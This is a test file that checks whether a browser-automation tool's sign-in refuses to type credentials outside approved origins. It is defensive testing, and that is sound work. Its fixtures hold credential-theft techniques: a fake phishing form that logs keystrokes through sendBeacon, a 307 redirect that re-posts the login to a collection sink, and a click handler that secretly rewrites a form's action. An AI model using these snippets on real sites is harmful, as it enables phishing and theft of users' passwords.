import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { BrowserPool, type CaptureSpec } from "../../src/media/browser/index.js";
import { startEgressProxy } from "../../src/net/egress/proxy.js";
import { sitePolicy } from "../../src/net/guard.js";
import { openFencedSession } from "../../src/pipelines/browsing/fenced-session.js";
import { SignInError, signIn } from "../../src/pipelines/walkthrough/sign-in.js";
import { signInWithinApprovedOrigins } from "../../src/pipelines/walkthrough/sign-in-fenced.js";
import { Harness } from "../../src/testutil/harness.js";
import { type Recorder, type RecorderHandler, startRecorder } from "../support/recorder-server.js";
import { planSignedIn } from "../support/seed-storyboard.js";
import { DEMO_EMAIL, DEMO_PASSWORD, type Site, startSite } from "../support/site-server.js";
import { staticResolver } from "../support/static-resolver.js";

// Demo credentials are typed only into approved origins (the login URL's and additionalLoginOrigins).
// The unapproved origin is a server on 127.0.0.2 that serves a convincing sign-in form, logs every
// keystroke it is sent and records form posts: the password must never reach it.
const browserOnly = describe.runIf(process.env.CLIPWRIGHT_TEST_DB !== "postgres");

const DESKTOP: CaptureSpec = { width: 1024, height: 700, deviceScaleFactor: 1, isMobile: false, hasTouch: false };

const loginForm = (action: string, withUser = true) => `<!doctype html><meta charset="utf-8"><title>Sign in</title>
<form method="post" action="${action}">
  ${withUser ? `<label for="email">Email</label><input id="email" name="email" type="email" autocomplete="username" oninput="navigator.sendBeacon('/keys', this.value)">` : ""}
  <label for="password">Password</label>
  <input id="password" name="password" type="password" autocomplete="current-password" oninput="navigator.sendBeacon('/keys', this.value)">
  <button type="submit">Sign in</button>
</form>`;

const phishing: RecorderHandler = (req, res) => {
  if (req.method === "POST" && req.url !== "/keys" && req.url !== "/step2") {
    res.writeHead(303, { location: "/done", "content-length": 0 });
    res.end();
    return;
  }
  res.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" });
  if (req.url === "/done") res.end("<!doctype html><title>Welcome</title><h1>Welcome</h1>");
  else res.end(req.url === "/step2" ? loginForm("/login", false) : loginForm("/login"));
};

let site: Site;
let elsewhere: Recorder; // 127.0.0.2: not approved for the credentials (and not on the test allow-list)
let login: Recorder; // 127.0.0.1: the login URL's host
let pool: BrowserPool;

beforeAll(async () => {
  site = await startSite();
  elsewhere = await startRecorder("127.0.0.2", phishing);
  login = await startRecorder("127.0.0.1", (req, res) => {
    if (req.url === "/login") {
      // The login URL sends the browser on to the unapproved origin.
      res.writeHead(302, { location: `${elsewhere.url}/login`, "content-length": 0 });
      res.end();
      return;
    }
    // Step one of a two-step sign-in on the approved origin; its form posts to the unapproved one.
    res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    res.end(`<!doctype html><title>Sign in</title><form method="post" action="${elsewhere.url}/step2">
      <label for="email">Email</label><input id="email" name="email" type="email" autocomplete="username">
      <button type="submit">Continue</button></form>`);
  });
  pool = new BrowserPool({ actionTimeoutMs: 5_000, navigationTimeoutMs: 10_000 });
});
afterAll(async () => {
  await pool.close();
  await site.close();
  await login.close();
  await elsewhere.close();
});

/**
 * A session whose proxy lets the browser reach 127.0.0.2 too (sessions without a proxy reach only
 * 127.0.0.1: Chromium resolves nothing else), so only the sign-in's own checks protect the password.
 */
async function openSession() {
  const proxy = await startEgressProxy({
    policy: sitePolicy({ env: "test", allowPrivateHosts: ["127.0.0.1", "127.0.0.2"] }),
    resolver: staticResolver({}),
  });
  const session = await pool.newSession(DESKTOP, { proxyServer: proxy.url });
  return {
    page: session.page,
    close: async () => {
      await session.close();
      await proxy.close();
    },
  };
}

const passwordSeen = () =>
  elsewhere.requests.filter((r) => r.body.includes(DEMO_PASSWORD) || r.url.includes(DEMO_PASSWORD));
const creds = (loginUrl: string) => ({ loginUrl, username: DEMO_EMAIL, password: DEMO_PASSWORD });

browserOnly("sign-in types credentials only into approved origins", () => {
  it("a login URL that redirects to an unapproved origin: left_approved_origins, nothing typed there", async () => {
    // The browser may follow the redirect and the phishing form loads; the sign-in's own origin check is
    // all that stands between the password and the form.
    const session = await openSession();
    try {
      const before = elsewhere.requests.length;
      const err = await signIn(session.page, creds(`${login.url}/login`)).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(SignInError);
      expect(err).toMatchObject({ reason: "left_approved_origins", origin: elsewhere.url });
      expect(JSON.stringify({ message: (err as Error).message, err })).not.toContain(DEMO_PASSWORD);
      // The browser did reach the phishing form: the check, not a failed load, stopped the sign-in.
      expect(elsewhere.requests.slice(before).some((r) => r.method === "GET" && r.url === "/login")).toBe(true);
      const posts = elsewhere.requests.slice(before).filter((r) => r.method === "POST");
      expect(posts).toEqual([]);
      expect(passwordSeen()).toEqual([]);
    } finally {
      await session.close();
    }
  });

  it("a password step on an unapproved origin is not filled (checked before every fill)", async () => {
    const session = await openSession();
    try {
      const err = await signIn(session.page, creds(`${login.url}/two-step`)).catch((e: unknown) => e);
      expect(err).toMatchObject({ name: "SignInError", reason: "left_approved_origins", origin: elsewhere.url });
      expect(new URL(session.page.url()).origin).toBe(elsewhere.url); // it got there: the form posted the email
      expect(passwordSeen()).toEqual([]);
      expect(elsewhere.requests.filter((r) => r.url === "/keys")).toEqual([]);
    } finally {
      await session.close();
    }
  });

  it("an approved additional origin is typed into", async () => {
    const session = await openSession();
    try {
      // The same form, approved this time: it stands for an identity provider. (Another password, so the
      // other tests can still say theirs never arrived.)
      const password = "approved-idp-secret";
      const approved = { ...creds(`${login.url}/login`), password, additionalLoginOrigins: [elsewhere.url] };
      await signIn(session.page, approved);
      expect(elsewhere.requests.some((r) => r.method === "POST" && r.body.includes(password))).toBe(true);
    } finally {
      await session.close();
    }
  });

  it("behind the egress proxy the redirect itself is refused: the unapproved host sees no connection", async () => {
    const connections = elsewhere.connections;
    const fenced = await openFencedSession(pool, DESKTOP, {
      config: { env: "test", allowPrivateHosts: ["127.0.0.1"] },
      resolver: staticResolver({}),
    });
    try {
      const err = await signInWithinApprovedOrigins(fenced.session.page, creds(`${login.url}/login`), {
        fence: fenced.fence,
        startUrl: `${site.url}/`,
      }).catch((e: unknown) => e);
      expect(err).toMatchObject({ name: "SignInError", reason: "left_approved_origins", origin: elsewhere.url });
      expect(fenced.proxy.refused.not_approved).toBeGreaterThanOrEqual(1);
      expect(fenced.fence.blocked.origin).toBeGreaterThanOrEqual(1);
      expect(elsewhere.connections).toBe(connections);
    } finally {
      await fenced.close();
    }
  });
});

browserOnly("storyboard job whose sign-in leaves the approved origins", () => {
  let h: Harness;
  beforeAll(async () => {
    // 127.0.0.2 passes the URL guard here, so the browser reaches it: only the sign-in's check can stop
    // the password.
    h = await Harness.start({ config: { allowPrivateHosts: ["127.0.0.1", "127.0.0.2"] }, rateStore: "memory" });
  });
  afterAll(async () => {
    await h.close();
  });

  it("fails with login_origins_invalid naming the origin; the password never leaves", async () => {
    const user = await h.user();
    const before = elsewhere.requests.length;
    const done = await planSignedIn(h, user, {
      url: `${site.url}/`,
      loginUrl: `${login.url}/login`,
      username: DEMO_EMAIL,
      password: DEMO_PASSWORD,
    });
    expect(done).toMatchObject({
      state: "failed",
      error: { code: "login_origins_invalid", retryable: false, reason: expect.stringContaining(elsewhere.url) },
    });
    expect(JSON.stringify(done)).not.toContain(DEMO_PASSWORD);
    expect(elsewhere.requests.slice(before).filter((r) => r.method === "POST")).toEqual([]);
    expect(passwordSeen()).toEqual([]);
  });
});

// Issue 19: the review's three hops that leaked the password with today's in-browser checks. Each runs the
// real storyboard job with 127.0.0.2 allowed by the URL guard (so only the sign-in's fence stands in the
// way) and a fresh recording listener there that must see no connection at all.
browserOnly("sign-in hops that leave the approved origins after the form is sent", () => {
  let h: Harness;
  let approvedSite: Recorder; // 127.0.0.1: the login page's origin, whose forms are sent in three ways
  let sink: Recorder; // 127.0.0.2: the origin never approved; re-created per case

  const welcome: RecorderHandler = (_req, res) => {
    res.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" });
    res.end("<!doctype html><title>Welcome</title><h1>Welcome back</h1>");
  };

  const signInPage = (form: string) => `<!doctype html><meta charset="utf-8"><title>Sign in</title>
<h1>Sign in</h1>${form}`;
  const fields = `<label for="email">Email</label><input id="email" name="email" type="email" autocomplete="username">
  <label for="password">Password</label><input id="password" name="password" type="password" autocomplete="current-password">`;

  beforeAll(async () => {
    h = await Harness.start({ config: { allowPrivateHosts: ["127.0.0.1", "127.0.0.2"] }, rateStore: "memory" });
    approvedSite = await startRecorder("127.0.0.1", (req, res) => {
      const path = req.url ?? "/";
      const html = (body: string) => {
        res.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" });
        res.end(body);
      };
      if (req.method === "POST" && path === "/session") {
        // The approved origin answers 307: the browser re-posts the form body to the other origin.
        res.writeHead(307, { location: `${sink.url}/collect`, "content-length": 0 });
        res.end();
        return;
      }
      if (path === "/login-307")
        return html(signInPage(`<form method="post" action="/session">${fields}<button>Sign in</button></form>`));
      if (path === "/login-iframe")
        return html(
          signInPage(`<form method="post" action="${sink.url}/collect" target="sink">${fields}<button>Sign in</button></form>
<iframe name="sink" title="status"></iframe>`),
        );
      if (path === "/login-rewrite")
        // The form looks right until the click: then its action and target go elsewhere.
        return html(
          signInPage(`<form id="f" method="post" action="/session-ok">${fields}<button id="go">Sign in</button></form>
<iframe name="late" title="status"></iframe>
<script>document.getElementById("go").addEventListener("click", () => {
  const f = document.getElementById("f"); f.action = ${JSON.stringify(`${sink.url}/collect`)}; f.target = "late";
}, true);</script>`),
        );
      return html("<!doctype html><title>Home</title><h1>Home</h1><a href='/login-307'>Sign in</a>");
    });
  });
  beforeEach(async () => {
    sink = await startRecorder("127.0.0.2", welcome);
  });
  afterEach(async () => {
    await sink.close();
  });
  afterAll(async () => {
    await approvedSite.close();
    await h.close();
  });

  const storyboardSignedInAt = async (loginUrl: string) =>
    planSignedIn(h, await h.user(), {
      url: `${approvedSite.url}/`,
      loginUrl,
      username: DEMO_EMAIL,
      password: DEMO_PASSWORD,
    });

  const refusedAtTheSink = (done: unknown) => {
    expect(done).toMatchObject({
      state: "failed",
      error: { code: "login_origins_invalid", retryable: false, reason: expect.stringContaining(sink.url) },
    });
    const text = JSON.stringify(done);
    expect(text).not.toContain(DEMO_PASSWORD);
    expect(text).not.toContain("/collect"); // the origin only, never a path
    expect(sink.requests).toEqual([]);
    expect(sink.connections).toBe(0);
  };

  it("a 307 from the approved origin to another: the re-posted form never leaves", async () => {
    refusedAtTheSink(await storyboardSignedInAt(`${approvedSite.url}/login-307`));
  });

  it("a form whose target is an iframe and whose action is on another origin", async () => {
    refusedAtTheSink(await storyboardSignedInAt(`${approvedSite.url}/login-iframe`));
  });

  it("a click handler that rewrites the form's action and target just before the submit", async () => {
    refusedAtTheSink(await storyboardSignedInAt(`${approvedSite.url}/login-rewrite`));
  });
});
